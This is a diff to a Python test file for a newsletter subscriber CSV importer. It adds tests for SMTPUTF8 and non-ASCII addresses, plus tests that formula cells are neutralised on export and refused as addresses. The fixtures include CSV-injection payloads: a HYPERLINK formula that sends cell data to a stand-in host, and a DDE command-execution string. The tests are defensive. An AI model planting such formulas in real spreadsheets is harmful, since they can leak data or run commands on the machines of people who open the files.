@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -21,6 +22,8 @@ from subscribers.importer import (
     _Addresses,  # the per-domain shortcut, held equal to normalise_email below
     export_csv,
     import_csv,
+    neutralise,
+    restore,
 )
 from subscribers.lists import create_list
 from subscribers.models import (
@@ -68,10 +71,13 @@ def run(
     taxonomy: Taxonomy,
     *,
     dry_run: bool = False,
+    smtputf8: bool = False,
 ) -> ImportReport:
     """Import the file and commit, as the CLI does."""
     with sessions() as session:
-        report = import_csv(session, newsletter, path, taxonomy=taxonomy, dry_run=dry_run)
+        report = import_csv(
+            session, newsletter, path, taxonomy=taxonomy, dry_run=dry_run, smtputf8=smtputf8
+        )
         session.commit()
         return report
 
@@ -229,7 +235,7 @@ class TestImport:
         taxonomy: Taxonomy,
         tmp_path: Path,
     ) -> None:
-        """Addresses are normalised exactly as normalise_email does, fast path or not."""
+        """Addresses are normalised exactly as normalise_email does, fast path or not (SMTPUTF8)."""
         addresses = [
             " Reader@EXAMPLE.net ",
             "Postmaster@Example.ORG",
@@ -240,7 +246,7 @@ class TestImport:
             "a.b-c_d@xn--bcher-kva.example",
         ]
         path = write(tmp_path, "email\n" + "\n".join(f'"{a}"' for a in addresses) + "\n")
-        run(sessions, newsletter, path, taxonomy)
+        run(sessions, newsletter, path, taxonomy, smtputf8=True)
         expected = sorted(normalise_email(a) for a in addresses)
         assert sorted(row[0] for row in stored(sessions, newsletter)) == expected
 
@@ -794,3 +800,89 @@ class TestExport:
         with sessions() as session:
             export_csv(session, newsletter, out)
         assert run(sessions, newsletter, out, taxonomy).unchanged == 1
+
+
+class TestHostileCells:
+    def test_formula_cells_are_exported_as_text_and_import_back_unchanged(
+        self,
+        sessions: sessionmaker[Session],
+        newsletter: NewsletterList,
+        taxonomy: Taxonomy,
+        tmp_path: Path,
+    ) -> None:
+        """Cells a spreadsheet would run are exported behind a ' and import back as they were."""
+        names = [
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "'=already quoted",
+            "'plain apostrophe",
+            "Ann = Bob",
+        ]
+        rows = [
+            f'reader{n}@example.net,"{name.replace(chr(34), chr(34) * 2)}"'
+            for n, name in enumerate(names)
+        ]
+        rows.append('"""=1+1""@example.org",Formula Address')
+        run(
+            sessions, newsletter, write(tmp_path, "email,name\n" + "\n".join(rows) + "\n"), taxonomy
+        )
+        before = stored(sessions, newsletter)
+        assert ("=1+1@example.org", "Formula Address") in [(r[0], r[1]) for r in before]
+        first = tmp_path / "first.csv"
+        with sessions() as session:
+            export_csv(session, newsletter, first)
+        with first.open(encoding="utf-8", newline="") as stream:
+            cells = [cell for row in csv.reader(stream) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert "'=1+1@example.org" in cells
+        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
+        # A ' typed before a formula in a file means "text", as in a spreadsheet: it is taken off.
+        assert "'=already quoted" in cells and "'plain apostrophe" in cells
+        report = run(sessions, newsletter, first, taxonomy)
+        assert report.unchanged == len(names) + 1
+        assert stored(sessions, newsletter) == before
+
+    @pytest.mark.parametrize("address", ["=1+1@example.org", "+cmd@example.org", "-x@example.org"])
+    def test_an_address_a_spreadsheet_would_run_is_refused_unquoted(
+        self,
+        sessions: sessionmaker[Session],
+        newsletter: NewsletterList,
+        taxonomy: Taxonomy,
+        tmp_path: Path,
+        address: str,
+    ) -> None:
+        """An address cell beginning with a formula character fails its row, naming the fix."""
+        failure = refused(sessions, newsletter, write(tmp_path, f"email\n{address}\n"), taxonomy)
+        assert [(e.line, e.email) for e in failure.errors] == [(2, address)]
+        assert "runs as a formula" in failure.errors[0].reason
+        assert stored(sessions, newsletter) == []
+
+    @given(st.text())
+    def test_restore_undoes_neutralise(self, cell: str) -> None:
+        """Any cell comes back from neutralise and restore unchanged, and never opens a formula."""
+        assert restore(neutralise(cell)) == cell
+        assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+class TestNonAsciiAddresses:
+    def test_a_non_ascii_local_part_is_refused_without_smtputf8(
+        self,
+        sessions: sessionmaker[Session],
+        newsletter: NewsletterList,
+        taxonomy: Taxonomy,
+        tmp_path: Path,
+    ) -> None:
+        """ü@example.org fails its row unless the relay takes SMTPUTF8; IDN domains always pass."""
+        text = "email\nuser@bücher.de\nuser2@xn--bcher-kva.de\nü@example.org\n"
+        failure = refused(sessions, newsletter, write(tmp_path, text), taxonomy)
+        assert [(e.line, e.email) for e in failure.errors] == [(4, "ü@example.org")]
+        assert "outside ASCII" in failure.errors[0].reason
+        assert stored(sessions, newsletter) == []
+        run(sessions, newsletter, write(tmp_path, text), taxonomy, smtputf8=True)
+        assert sorted(r[0] for r in stored(sessions, newsletter)) == [
+            "user2@bücher.de",
+            "user@bücher.de",
+            "ü@example.org",
+        ]
